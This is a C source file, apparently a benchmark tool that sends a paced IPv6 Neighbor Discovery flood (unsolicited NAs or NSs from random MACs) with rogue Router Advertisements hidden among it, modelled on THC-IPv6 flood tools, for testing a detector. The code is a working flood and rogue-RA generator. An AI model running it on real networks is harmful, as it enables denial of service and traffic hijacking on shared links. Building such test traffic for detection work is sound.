/* A paced ND flood for bench/bench_live.py: what THC-IPv6's flood_advertise6 (or
 * flood_solicitate6) puts on a link, with rogue RAs hidden among it.
 *
 * usage: flood_sender IFACE RATE SECONDS RAS KIND [SEED]
 *   sends RATE frames/s for SECONDS on IFACE (an AF_PACKET socket, sendmmsg, one batch
 *   per millisecond): unsolicited NAs (KIND "na") or NSs (KIND "ns"), each from a new
 *   random MAC and address, and RAS Router Advertisements spread evenly among them,
 *   each from its own random MAC; prints "sent N frames (R RAs) in S s".
 *
 * Built by the benchmark with cc; Python cannot hold 100k frames/s (LAB-NOTES 16).
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

#define BATCH_MAX 1024
#define FRAME_MAX 128

static uint64_t state = 88172645463325252ULL;

static uint64_t next_random(void) {  /* xorshift64 */
    state ^= state << 13;
    state ^= state >> 7;
    state ^= state << 17;
    return state;
}

static void random_mac(uint8_t *mac) {
    uint64_t r = next_random();
    memcpy(mac, &r, 6);
    mac[0] &= 0xFC;  /* unicast, globally administered */
}

/* RFC 4443 §2.3: the ICMPv6 checksum over the pseudo-header and the message. */
static uint16_t icmp6_checksum(const uint8_t *ip6, const uint8_t *icmp, size_t len) {
    uint32_t sum = 0;
    for (int i = 8; i < 40; i += 2) sum += (ip6[i] << 8) | ip6[i + 1];
    sum += (uint32_t)len + 58;
    for (size_t i = 0; i + 1 < len; i += 2) sum += (icmp[i] << 8) | icmp[i + 1];
    if (len & 1) sum += icmp[len - 1] << 8;
    while (sum >> 16) sum = (sum & 0xFFFF) + (sum >> 16);
    return (uint16_t)~sum;
}

/* Ethernet + IPv6 (hop limit 255) header; returns a pointer to the ICMPv6 part. */
static uint8_t *headers(uint8_t *f, const uint8_t *dmac, const uint8_t *smac,
                        const uint8_t *src, const uint8_t *dst, size_t icmp_len) {
    memcpy(f, dmac, 6);
    memcpy(f + 6, smac, 6);
    f[12] = 0x86; f[13] = 0xDD;
    uint8_t *ip = f + 14;
    memset(ip, 0, 40);
    ip[0] = 0x60;
    ip[4] = icmp_len >> 8; ip[5] = icmp_len & 0xFF;
    ip[6] = 58; ip[7] = 255;
    memcpy(ip + 8, src, 16);
    memcpy(ip + 24, dst, 16);
    return ip + 40;
}

static void eui64(uint8_t *addr, const uint8_t *prefix, const uint8_t *mac) {
    memcpy(addr, prefix, 8);
    addr[8] = mac[0] ^ 2; addr[9] = mac[1]; addr[10] = mac[2];
    addr[11] = 0xFF; addr[12] = 0xFE;
    addr[13] = mac[3]; addr[14] = mac[4]; addr[15] = mac[5];
}

static const uint8_t ALL_NODES[16] = {0xff, 2, [15] = 1};
static const uint8_t ALL_NODES_MAC[6] = {0x33, 0x33, 0, 0, 0, 1};
static const uint8_t GLOBAL[8] = {0x20, 0x01, 0x0d, 0xb8, 0, 1, 0, 0};
static const uint8_t LINK_LOCAL[8] = {0xfe, 0x80};

static size_t flood_frame(uint8_t *f, int ns) {
    uint8_t mac[6], src[16], target[16];
    random_mac(mac);
    eui64(src, GLOBAL, mac);
    if (!ns) {  /* unsolicited NA, Override, target = its own address, TLLA option */
        uint8_t *icmp = headers(f, ALL_NODES_MAC, mac, src, ALL_NODES, 32);
        memset(icmp, 0, 32);
        icmp[0] = 136; icmp[4] = 0x20;
        memcpy(icmp + 8, src, 16);
        icmp[24] = 2; icmp[25] = 1; memcpy(icmp + 26, mac, 6);
        uint16_t c = icmp6_checksum(f + 14, icmp, 32);
        icmp[2] = c >> 8; icmp[3] = c & 0xFF;
        return 14 + 40 + 32;
    }
    uint8_t other[6], dst[16] = {0xff, 2, [11] = 1, [12] = 0xff}, dmac[6] = {0x33, 0x33, 0xff};
    random_mac(other);
    eui64(target, GLOBAL, other);
    memcpy(dst + 13, target + 13, 3);
    memcpy(dmac + 3, target + 13, 3);
    uint8_t *icmp = headers(f, dmac, mac, src, dst, 32);
    memset(icmp, 0, 32);
    icmp[0] = 135;
    memcpy(icmp + 8, target, 16);
    icmp[24] = 1; icmp[25] = 1; memcpy(icmp + 26, mac, 6);
    uint16_t c = icmp6_checksum(f + 14, icmp, 32);
    icmp[2] = c >> 8; icmp[3] = c & 0xFF;
    return 14 + 40 + 32;
}

/* An RA from a new random router: lifetime 1800, SLLA, one /64 prefix. */
static size_t ra_frame(uint8_t *f) {
    uint8_t mac[6], src[16], prefix[8] = {0x20, 0x01, 0x0d, 0xb8};
    random_mac(mac);
    eui64(src, LINK_LOCAL, mac);
    uint64_t r = next_random();
    memcpy(prefix + 4, &r, 4);
    uint8_t *icmp = headers(f, ALL_NODES_MAC, mac, src, ALL_NODES, 56);
    memset(icmp, 0, 56);
    icmp[0] = 134; icmp[4] = 64; icmp[6] = 1800 >> 8; icmp[7] = 1800 & 0xFF;
    icmp[16] = 1; icmp[17] = 1; memcpy(icmp + 18, mac, 6);
    uint8_t *pio = icmp + 24;
    pio[0] = 3; pio[1] = 4; pio[2] = 64; pio[3] = 0xC0;
    pio[4] = 0; pio[5] = 0x27; pio[6] = 0x8D; pio[7] = 0;  /* valid 2592000 s */
    pio[8] = 0; pio[9] = 0x09; pio[10] = 0x3A; pio[11] = 0x80;  /* preferred 604800 s */
    memcpy(pio + 16, prefix, 8);
    uint16_t c = icmp6_checksum(f + 14, icmp, 56);
    icmp[2] = c >> 8; icmp[3] = c & 0xFF;
    return 14 + 40 + 56;
}

static double now(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec * 1e-9;
}

int main(int argc, char **argv) {
    if (argc < 6) {
        fprintf(stderr, "usage: %s IFACE RATE SECONDS RAS na|ns [SEED]\n", argv[0]);
        return 2;
    }
    long rate = atol(argv[2]), ras = atol(argv[4]);
    double seconds = atof(argv[3]);
    int ns = strcmp(argv[5], "ns") == 0;
    if (argc > 6) state ^= strtoull(argv[6], NULL, 10) * 0x9E3779B97F4A7C15ULL;
    long total = (long)(rate * seconds), per_ms = rate / 1000 ? rate / 1000 : 1;
    if (per_ms > BATCH_MAX) per_ms = BATCH_MAX;
    int fd = socket(AF_PACKET, SOCK_RAW, 0);
    struct sockaddr_ll where = {.sll_family = AF_PACKET, .sll_ifindex = if_nametoindex(argv[1])};
    if (fd < 0 || !where.sll_ifindex || bind(fd, (struct sockaddr *)&where, sizeof where)) {
        perror(argv[1]);
        return 1;
    }
    static uint8_t frames[BATCH_MAX][FRAME_MAX];
    static struct iovec iov[BATCH_MAX];
    static struct mmsghdr msgs[BATCH_MAX];
    long sent = 0, ras_sent = 0;
    double start = now();
    struct timespec tick;
    clock_gettime(CLOCK_MONOTONIC, &tick);
    while (sent < total) {
        int n = 0;
        for (; n < per_ms && sent + n < total; n++) {
            long i = sent + n;  /* RA number k goes at (k + 0.5) * total / ras */
            int is_ra = ras_sent < ras && i >= (long)((ras_sent + 0.5) * total / ras);
            iov[n].iov_base = frames[n];
            iov[n].iov_len = is_ra ? ra_frame(frames[n]) : flood_frame(frames[n], ns);
            ras_sent += is_ra;
            memset(&msgs[n], 0, sizeof msgs[n]);
            msgs[n].msg_hdr.msg_iov = &iov[n];
            msgs[n].msg_hdr.msg_iovlen = 1;
        }
        for (int done = 0; done < n;) {
            int r = sendmmsg(fd, msgs + done, n - done, 0);
            if (r < 0) { perror("sendmmsg"); return 1; }
            done += r;
        }
        sent += n;
        tick.tv_nsec += 1000000L * n / per_ms;
        while (tick.tv_nsec >= 1000000000L) { tick.tv_nsec -= 1000000000L; tick.tv_sec++; }
        clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &tick, NULL);
    }
    printf("sent %ld frames (%ld RAs) in %.3f s\n", sent, ras_sent, now() - start);
    return 0;
}
